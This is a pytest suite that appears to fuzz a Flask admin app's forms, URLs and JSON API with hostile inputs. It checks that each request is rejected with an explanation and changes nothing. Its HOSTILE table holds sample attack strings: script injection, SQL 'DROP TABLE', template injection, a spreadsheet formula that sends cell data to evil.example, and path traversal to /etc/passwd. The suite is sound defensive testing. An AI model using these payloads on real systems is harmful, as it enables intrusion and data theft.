"""Whatever is sent, the answer is a sentence and a status of the 400s, and nothing has changed."""

from __future__ import annotations

import json
import re
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from flask import Flask

from tests.webapp.admin.conftest import World
from tests.webapp.admin.everything import everything
from tests.webapp.admin.test_acts import ACTS
from tests.webapp.conftest import csrf_token

HOSTILE = {
    "nothing": "",
    "blank": " \t\r\n ",
    "huge number": "9" * 100_000,
    "long words": "x" * 100_000,
    "zero byte": "a\0b",
    "markup": "<script>alert(1)</script>",
    "sql": "1'; DROP TABLE products; --",
    "format": "{0.__class__} %s %(x)s ${7*7} {{7*7}}",
    "formula": '=HYPERLINK("http://evil.example/?"&A1)',
    "path": "../../../../etc/passwd",
    "negative": "-1",
    "beyond 64 bits": str(2**64),
    "not a number": "NaN",
    "infinite": "1e999",
    "other digits": "١٢٣",
    "emoji": "👟" * 50,
    "turned round": "\u202egnp.exe",
    "half a letter": "\udcff",
    "array": '["a", "b"]',
    "object": '{"$gt": ""}',
}
EACH = 5
"""So many of them go to each field of each form; the next field gets the next ones, so that all kinds go everywhere."""
TEXT = {"markup", "sql", "format", "formula", "path", "array", "object", "turned round", "emoji", "half a letter"}
NUMBERS = {"negative", "beyond 64 bits", "not a number", "infinite", "other digits"}
EMPTY = {"nothing", "blank"}
MAY_BE: dict[tuple[str, str], set[str]] = {
    # What people name as they like, and what may be left empty or is a number indeed.
    ("edit_product", "name"): TEXT | NUMBERS,
    ("add_token", "name"): TEXT - {"half a letter", "turned round"} | NUMBERS,
    ("change_password", "password"): set(HOSTILE) - EMPTY,
    ("add_person", "password"): set(HOSTILE) - EMPTY,
    ("begin_training", "network"): EMPTY,
    ("begin_training", "top_epochs"): EMPTY | {"other digits"},
    ("begin_tuning", "network"): EMPTY,
    ("begin_tuning", "trials"): EMPTY | {"other digits"},
    ("begin_tuning", "fine_tune"): EMPTY,
    ("begin_evaluation", "pictures"): EMPTY,
    ("begin_evaluation", "split"): EMPTY,
    ("turn_picture", "angle"): EMPTY,
    ("address_shop", "start_urls"): EMPTY,
    ("add_shop", "start_urls"): EMPTY,
    ("add_shop", "site"): {"beyond 64 bits", "infinite"},  # names of letters and digits
    ("schedule_shop", "enabled"): set(HOSTILE),  # whatever is not "yes" is no
    ("pin", "pinned"): set(HOSTILE),
}
FIELDS = [(act, field) for act, (_, form) in ACTS.items() for field in form]
SAYS_WHY = re.compile(
    r'role="alert">\s*[^<]{15,}|class="notice notice-(?:error|warning)">\s*[^<]{15,}|<h1[^>]*>[^<]+</h1>'
)
PLACES = ("", "/audit", "/people", "/products", "/shops", "/jobs", "/trainings", "/bundles", "/feedback")


def kinds_for(number: int) -> list[str]:
    """Which hostile values the field of this number gets."""
    names = list(HOSTILE)
    return [names[(number * EACH + step) % len(names)] for step in range(EACH)]


@pytest.mark.parametrize("part", range(4))
def test_no_field_of_a_form_breaks(app: Flask, world: World, part: int) -> None:
    """One field is hostile, the others are as they should be: each check is met, not only the first."""
    token = csrf_token(world.admin.client, "/admin/people")
    for number, (act, field) in enumerate(FIELDS):
        if number % 4 != part:
            continue
        address, form = ACTS[act]
        for kind in kinds_for(number):
            before = everything(app)
            sent: dict[str, Any] = {name: str(value).format(w=world) for name, value in form.items()}
            sent[field] = HOSTILE[kind].encode("utf-8", "surrogateescape")
            answer = world.admin.client.post(address.format(w=world), data={"csrf_token": token, **sent})
            what = (act, field, kind, answer.status_code)
            if kind in MAY_BE.get((act, field), ()):
                assert answer.status_code < 500, what
                continue
            assert answer.status_code in {400, 404, 413, 422}, what
            assert SAYS_WHY.search(answer.text), what
            assert "<script>alert" not in answer.text, what
            assert everything(app) == before, what
    for place in PLACES:
        page = world.admin.client.get(f"/admin{place}")
        assert page.status_code == 200
        assert "<script>alert" not in page.text


def test_all_kinds_go_to_many_fields() -> None:
    given = [kind for number in range(len(FIELDS)) for kind in kinds_for(number)]
    assert min(given.count(kind) for kind in HOSTILE) >= 8
    assert set(MAY_BE) <= set(FIELDS)


def test_forms_without_their_fields_say_what_is_missing(app: Flask, world: World) -> None:
    token = csrf_token(world.admin.client, "/admin/people")
    may_be_empty = {"edit_product", "pin", "begin_training", "begin_tuning", "address_shop"}
    for act in dict(FIELDS):
        answer = world.admin.client.post(ACTS[act][0].format(w=world), data={"csrf_token": token})
        if act in may_be_empty:
            assert answer.status_code in {200, 303}, act
            continue
        assert answer.status_code in {404, 422}, (act, answer.status_code)
        assert SAYS_WHY.search(answer.text), act


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("application/json", b'{"name": ["a"]}'),
        ("text/plain", b"name=x"),
        ("multipart/form-data", b"no boundary"),
        ("multipart/form-data; boundary=x", b"--x\r\nContent-Disposition: form-data; name=\xff\r\n\r\n\r\n--x"),
        ("application/x-www-form-urlencoded", b"%&=%00&&a=%zz&" + b"a=1&" * 2000),
        ("image/png; charset=\xff", b"\x89PNG"),
    ],
)
def test_a_body_of_another_kind_changes_nothing(app: Flask, world: World, content_type: str, body: bytes) -> None:
    header = {"X-CSRFToken": csrf_token(world.admin.client, "/admin/people"), "Content-Type": content_type}
    before = everything(app)
    for act in dict(FIELDS):
        if act in {"pin", "begin_training", "begin_tuning", "address_shop", "edit_product"}:
            continue  # without any field they mean something
        answer = world.admin.client.post(ACTS[act][0].format(w=world), data=body, headers=header)
        assert 400 <= answer.status_code < 500, (act, answer.status_code)
        assert SAYS_WHY.search(answer.text), act
    assert everything(app) == before


def test_ten_megabytes_in_a_field_are_too_much(app: Flask, world: World) -> None:
    token, before = csrf_token(world.admin.client, "/admin/people"), everything(app)
    for act, field in FIELDS[:: len(FIELDS) // 6]:
        sent = {"csrf_token": token, field: "x" * 10_000_000}
        answer = world.admin.client.post(ACTS[act][0].format(w=world), data=sent)
        assert answer.status_code in {413, 422}, (act, answer.status_code)
        assert len(answer.data) < 100_000, "it comes back"
    assert everything(app) == before


def test_no_address_breaks(app: Flask, world: World) -> None:
    before = everything(app)
    for value in HOSTILE.values():
        ask_for(world, value)
    assert everything(app) == before


def ask_for(world: World, value: str) -> None:
    """Ask for this in each part of each address."""
    client = world.admin.client
    sent = value[:2000].encode("utf-8", "surrogateescape")
    asked = urlencode(dict.fromkeys(("query", "kind", "page", "who", "act", "words", "queue", "start", "bundle"), sent))
    for place in ("/audit", "/people", "/products", "/jobs", "/feedback", "/bundles", "/trainings"):
        assert client.get(f"/admin{place}", query_string=asked).status_code in {200, 404}
    pairs = urlencode(dict.fromkeys(("before", "after", "one", "other"), sent))
    for place in ("/bundles/flips", "/trainings/compare"):
        assert client.get(f"/admin{place}", query_string=pairs).status_code == 404
    name = quote(sent, safe="")
    for place in ("/shops/{}", "/products/{}", "/runs/{}", "/jobs/{}", "/people/{}", "/trainings/{}"):
        assert client.get(f"/admin{place.format(name)}").status_code in {200, 308, 404}
    token = csrf_token(client, "/admin/people")
    for address, _ in ACTS.values():
        if "{w." in address:
            hostile = re.sub(r"\{w\.\w+\}", name, address)
            assert client.post(hostile, data={"csrf_token": token}).status_code in {404, 405, 308}, hostile


BODIES = [
    b"",
    b"{",
    b"[]",
    b"null",
    b"7",
    b'"text"',
    b"[" * 30_000,
    b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
    b"\xff\xfe{}",
    b'{"\\ud800": 1}',
    b'{"a": "' + b"x" * 70_000 + b'"}',
    b"x" * 10_000_000,
]
VALUES = [
    None,
    True,
    -1,
    2**70,
    1e308,
    float("nan"),
    float("inf"),
    [],
    ["demo", "vgg16"],
    {"a": 1},
    "\ud800",
    "\0",
    "9" * 5000,
    *HOSTILE.values(),
]
CALLS = {
    "/api/v1/trainings": ({"network": "vgg16", "top_epochs": 2}, {"network": (None, *"\t "), "top_epochs": (None,)}),
    "/api/v1/scrapes": ({"site": "demo"}, {}),
    "/api/v1/identifications/{w.answer_id}/feedback": ({"correct": False, "label": "kumo_drift", "product_id": 1}, {}),
    "/api/v1/recommendations": ({"product_id": 1, "target": "purchase", "industry": "retail"}, {}),
}
"""Each call with JSON, and what it takes."""


@pytest.mark.parametrize("address", CALLS)
def test_no_body_breaks_the_api(app: Flask, world: World, address: str) -> None:
    headers, before = {**world.admin.bearer, "Content-Type": "application/json"}, everything(app)
    for body in BODIES:
        if body == b"" and "trainings" in address:
            continue  # all as usual
        answer = app.test_client().post(address.format(w=world), data=body, headers=headers)
        assert answer.status_code in {400, 409, 413, 415, 422}, (body[:60], answer.text)
        assert answer.mimetype == "application/problem+json"
        assert len(answer.json["detail"]) > 15
    for content_type in ("text/plain", "multipart/form-data", "application/xml", "a\xff"):
        answer = app.test_client().post(
            address.format(w=world), data=b"<a/>", headers={**headers, "Content-Type": content_type}
        )
        assert answer.status_code in {400, 415, 422}, (content_type, answer.text)
    assert everything(app) == before


@pytest.mark.parametrize("address", CALLS)
def test_no_value_breaks_the_api(app: Flask, world: World, address: str) -> None:
    usual = CALLS[address][0]
    for name in (*usual, "another"):
        for value in VALUES:
            before = everything(app)
            body = json.dumps({**usual, name: value})
            headers = {**world.admin.bearer, "Content-Type": "application/json"}
            answer = app.test_client().post(address.format(w=world), data=body, headers=headers)
            what = (name, str(value)[:40], answer.status_code, answer.text[:200])
            if answer.status_code < 300:
                assert value in (None, True, "", " \t\r\n ") or name == "another" or may_be(name, value), what
                continue
            assert answer.status_code in {400, 409, 413, 422, 503}, what
            assert answer.mimetype == "application/problem+json", what
            assert len(answer.json["detail"]) > 15, what
            assert everything(app) == before, what


def may_be(name: str, value: object) -> bool:
    """Values that mean something after all."""
    return (name, value) == ("top_epochs", HOSTILE["other digits"])


@pytest.mark.parametrize("name", ["nobody", "..", "a%00b", "x" * 5000, "<b>", "%2e%2e%2fother", "other%2f..", "%ff"])
def test_an_unknown_bundle_is_not_found(app: Flask, world: World, name: str) -> None:
    before = everything(app)
    answer = app.test_client().post(f"/api/v1/bundles/{name}/publish", headers=world.admin.bearer)
    assert answer.status_code == 404
    assert answer.mimetype == "application/problem+json"
    assert everything(app) == before
